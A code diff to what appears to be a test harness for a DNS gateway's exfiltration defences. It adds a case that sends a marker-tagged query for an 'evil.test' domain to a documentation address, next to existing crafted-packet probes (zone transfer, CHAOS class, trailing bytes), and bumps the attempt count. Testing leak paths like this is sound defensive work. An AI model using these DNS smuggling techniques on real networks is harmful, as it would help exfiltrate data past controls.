@@ -583,12 +583,15 @@ attacks = {
     'zone transfer': packet(qs=[q(M + '-axfr.open.test', 252)]),
     'CHAOS class': packet(qs=[name(M + '-ch.open.test') + struct.pack('>HH', 16, 3)]),
     'trailing bytes': packet(qs=[q('open.test')]) + (M + '-trail').encode(),
+    'another server': packet(qs=[q(M + '-srv.evil.test')]),
 }
 out = {}
 for what, p in attacks.items():
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.settimeout(4)
-    s.sendto(p, (gw, 53))
+    # (The default DNS mode answers a query to any server itself; a documentation address, so
+    # nothing could leave even if it did not.)
+    s.sendto(p, ('203.0.113.53' if what == 'another server' else gw, 53))
     try:
         r = s.recv(2048)
         out[what] = 'rcode %d' % (r[3] & 15)
@@ -624,7 +627,7 @@ fn dns_exfiltration(hits: &Hits) -> Vec<Row> {
         .collect();
     vec![Row {
         attack: "DNS exfiltration past the checked question".into(),
-        tried: 12,
+        tried: 13,
         leaked,
     }]
 }
